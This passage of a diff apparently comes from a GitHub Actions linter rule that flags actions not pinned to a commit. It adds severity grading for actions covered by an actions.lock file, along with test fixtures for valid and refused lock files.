     message: quoted(uses.raw) + ' is not pinned to a commit'
     at: uses.raw
+    grade:
+      # The platform runs the commit of the lock, whatever the ref names by then.
+      - {when: uses.locked, severity: info}
     fix: {replace: uses.raw, hint: pin-action}
     tests:
       - name: "avoid: a tag"
@@ -13497,6 +13991,44 @@ constraints:
         expect:
           - {path: .github/workflows/a.yml, message: "\`owner/0123456789-0123456789-0123456789-0123456789-0123456789-0123456789-01234@v1\` is not pinned to a commit"}
           - {path: .github/workflows/b.yml, message: "\`owner/0123456789-0123456789-0123456789-0123456789-0123456789-0123456789-012345@…\` is not pinned to a commit"}
+      - name: what the lock of actions pins matters less, in the workflows that it lists
+        files:
+          .github/workflows/actions.lock: |
+            version: v0.0.2
+            workflows:
+              .github/workflows/ci.yml: [octo/build@v1]
+            dependencies:
+              octo/build@v1: {ref: v1, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
+          .github/workflows/ci.yml: |
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - uses: Octo/build@v1
+                  - uses: octo/build/sub@v1
+                  - uses: octo/build@v2
+                  - uses: octo/other@v1
+          .github/workflows/other.yml: |
+            jobs: {a: {steps: [{uses: octo/build@v1}]}}
+        expect:
+          - {path: .github/workflows/ci.yml, line: 6, severity: info, confidence: high}
+          - {path: .github/workflows/ci.yml, line: 7, severity: info}
+          - {path: .github/workflows/ci.yml, line: 8, severity: high}
+          - {path: .github/workflows/ci.yml, line: 9, severity: high}
+          - {path: .github/workflows/other.yml, severity: high}
+      - name: a lock that the platform refuses locks nothing
+        files:
+          .github/workflows/actions.lock: |
+            version: v0.0.2
+            more: {}
+            workflows:
+              .github/workflows/ci.yml: [octo/build@v1]
+            dependencies:
+              octo/build@v1: {ref: v1, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
+          .github/workflows/ci.yml: |
+            jobs: {a: {steps: [{uses: octo/build@v1}]}}
+        expect: [{path: .github/workflows/ci.yml, severity: high}]
       - name: what can never run is left alone
         files:
           .github/workflows/ci.yml: |
